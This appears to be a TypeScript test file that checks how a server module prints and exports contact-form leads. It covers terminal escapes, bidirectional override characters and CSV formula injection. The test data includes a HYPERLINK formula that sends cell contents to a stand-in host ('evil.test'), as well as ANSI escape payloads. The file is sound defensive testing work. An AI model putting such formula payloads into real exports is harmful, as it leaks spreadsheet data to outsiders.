import { describe, expect, test } from 'vitest';
import { csvHead, leadCsv, leadJson, leadLine, leadText } from '../../src/server/leads-text.ts';

const lead = {
  id: '0f8b9c1e-5d3a-4c7e-9b1a-2f6d8e4c7a10',
  receivedAt: '2030-01-02T03:04:05.678Z',
  name: 'Amina',
  email: 'a@example.org',
  country: 'الإمارات',
  message: '\n first\u001b[2J\u009b line \r\nsecond',
  bodyHash: 'hash',
  verified: 'verified',
  sentAt: null,
} as const;

test('a lead is one line that cannot steer the terminal', () => {
  expect(leadLine(lead)).toBe(
    '2030-01-02T03:04:05.678Z  0f8b9c1e-5d3a-4c7e-9b1a-2f6d8e4c7a10  Amina  a@example.org  الإمارات  first\\u001b[2J\\u009b line  … (+1)',
  );
});

test('a message of one line has no more', () => {
  expect(leadLine({ ...lead, message: ' Hello \n' })).toMatch(/ {2}Hello$/);
});

test('to be read it is whole, and cannot steer the terminal either', () => {
  expect(leadText(lead)).toBe(`receivedAt: 2030-01-02T03:04:05.678Z
id: 0f8b9c1e-5d3a-4c7e-9b1a-2f6d8e4c7a10
name: Amina
email: a@example.org
country: الإمارات
verified: verified
sentAt: not sent on


 first\\u001b[2J\\u009b line\u0020
second
`);
});

test('as JSON it is whole, and safe to print too', () => {
  const text = leadJson(lead);
  expect(JSON.parse(text)).toEqual(lead);
  expect(text).not.toMatch(/\p{Cc}/u);
});

describe('what would turn the text beside it round is shown by its number', () => {
  const turning = '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';
  const numbers = String.raw`\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069`;
  // The marks are of right-to-left text itself, and turn nothing but neutral signs.
  const shown = `\u200e\u200f\u061cد${numbers}`;
  const text = shown.replace(numbers, turning);
  const turned = { ...lead, name: text, message: text };

  test.each([
    ['in a line', leadLine(turned)],
    ['whole', leadText(turned)],
    ['as JSON', leadJson(turned)],
    ['in a table', leadCsv(turned)],
  ])('%s', (_, written) => {
    expect(written.split(shown)).toHaveLength(3);
    expect(written).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });

  test('and JSON is read as it was written', () => {
    expect(JSON.parse(leadJson(turned))).toEqual(turned);
  });
});

test.each([
  ['unverified', /  \[not checked\]$/],
  ['lowScore', /  \[may be a bot\]$/],
  ['flood', /  \[one of very many\]$/],
] as const)('a lead that is %s says so', (verified, expected) => {
  expect(leadLine({ ...lead, verified })).toMatch(expected);
});

describe('a table for a spreadsheet', () => {
  test('has a head by which UTF-8 is known, and a line of quoted cells for each lead', () => {
    expect(csvHead).toBe(
      '\uFEFF"receivedAt","name","email","country","message","verified","sentAt","id"\r\n',
    );
    expect(leadCsv({ ...lead, message: 'He said "yes",\nthen left\u001b[2J' })).toBe(
      '"2030-01-02T03:04:05.678Z","Amina","a@example.org","الإمارات","He said ""yes"",\nthen left\\u001b[2J","verified","","0f8b9c1e-5d3a-4c7e-9b1a-2f6d8e4c7a10"\r\n',
    );
  });

  test.each([
    '=1+1',
    '+971 4 000',
    '-1',
    '@SUM(A1)',
    '\tx',
    ' =1',
    '＝1',
    '=HYPERLINK("http://evil.test/?"&A1)',
  ])('keeps %j from being a formula', (message) => {
    expect(leadCsv({ ...lead, message })).toContain(`,"'${message.replaceAll('"', '""')}",`);
  });

  test.each([
    ['Hi;=1', "Hi;'=1"],
    ['Hi; =1;+1', "Hi;' =1;'+1"],
    ['Hi;"=1', 'Hi;\'""=1'],
    ['a\t-1', "a\t'-1"],
    ['a\r\n\r\n@A1', "a\r\n\r\n'@A1"],
    ['a\r=1', "a\r'=1"],
    ['\n=1', "'\n'=1"],
  ])('keeps a cell that %j could begin by another separator from being one', (message, shown) => {
    expect(leadCsv({ ...lead, message })).toContain(`,"${shown}",`);
  });

  test.each(['1-1', 'a=b', 'a, -b; c', 'a\n\nb = c', "O'Hara", '50%'])(
    'leaves %j alone',
    (message) => {
      expect(leadCsv({ ...lead, message })).toContain(`,"${message}",`);
    },
  );
});
